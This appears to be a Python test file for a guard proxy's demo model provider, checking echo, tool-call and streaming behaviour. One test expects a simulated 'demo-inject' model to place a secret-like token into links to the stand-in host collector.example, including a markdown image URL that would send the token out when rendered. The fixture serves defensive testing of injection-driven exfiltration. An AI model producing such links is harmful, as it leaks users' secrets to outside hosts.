"""The demo provider's answers: what each model does with what it received."""

from __future__ import annotations

import json

from guard.upstream.demo import answer, last_user_text, stream
from guard.upstream.dialect import Finish, TextDelta, ToolDelta
from guard.upstream.dialects.openai_answer import read_answer
from guard.upstream.dialects.openai_stream import ChatStreamReader

TOKEN = "EMLX0123456789AB"
TOOLS = [{"type": "function", "function": {"name": name}} for name in ("Write", "WebFetch")]


def body(model: str, content: object = "hello", **members: object) -> dict[str, object]:
    """Return a request as the demo receives it."""
    return {"model": model, "messages": [{"role": "user", "content": content}], **members}


def texts(request: dict[str, object]) -> tuple[str, list[str]]:
    """Return what a stream says in all, and why its choices ended."""
    reader = ChatStreamReader()
    said, ends = "", []
    for chunk in stream(request):
        for event in reader.feed(b"data: " + json.dumps(chunk).encode() + b"\n\n"):
            if isinstance(event, TextDelta):
                said += event.text
            elif isinstance(event, ToolDelta):
                said += event.arguments
            elif isinstance(event, Finish):
                ends.append(event.reason)
    return said, ends


def test_the_echo_says_what_the_last_user_said() -> None:
    parts = [{"type": "text", "text": "a"}, {"type": "text", "text": "b"}]
    request = body("demo-echo", parts, n=2)
    assert last_user_text(request) == "ab"
    whole = answer(request)
    assert json.dumps(whole).count('"content": "ab"') == 2
    assert texts(request) == ("abab", ["stop", "stop"])


def test_a_whole_answer_and_a_stream_are_readable_and_say_the_same() -> None:
    request = body("demo-tool", 'with "quotes" and 🙂', tools=TOOLS)
    read = read_answer(json.dumps(answer(request)).encode())
    arguments = [channel.text for channel in read.channels if channel.tool]
    assert [json.loads(source)["text"] for source in arguments] == ['with "quotes" and 🙂'] * 2
    assert texts(request) == ("".join(arguments), ["tool_calls"])
    assert read.usage and read.usage["prompt"] > 0


def test_one_tool_is_called_where_calls_may_not_be_parallel() -> None:
    request = body("demo-tool", tools=TOOLS, parallel_tool_calls=False)
    assert json.dumps(answer(request)).count('"arguments"') == 1


def test_without_tools_the_tool_model_speaks() -> None:
    assert texts(body("demo-tool"))[1] == ["stop"]


def test_the_injection_carries_every_surrogate_to_an_address() -> None:
    said, _ = texts(body("demo-inject", f"about {TOKEN} and {TOKEN}"))
    assert said.splitlines()[0] == f"Noted: {TOKEN}."
    assert (
        said.count(f"collector.example/?q={TOKEN}") == 1
        and f"![status](https://collector.example/p.png?q={TOKEN})" in said
    )


def test_usage_ends_a_stream_only_if_it_was_asked_for() -> None:
    assert "usage" not in list(stream(body("demo-echo")))[-1]
    asked = list(stream(body("demo-echo", stream_options={"include_usage": True})))
    assert asked[-1]["choices"] == [] and asked[-1]["usage"]
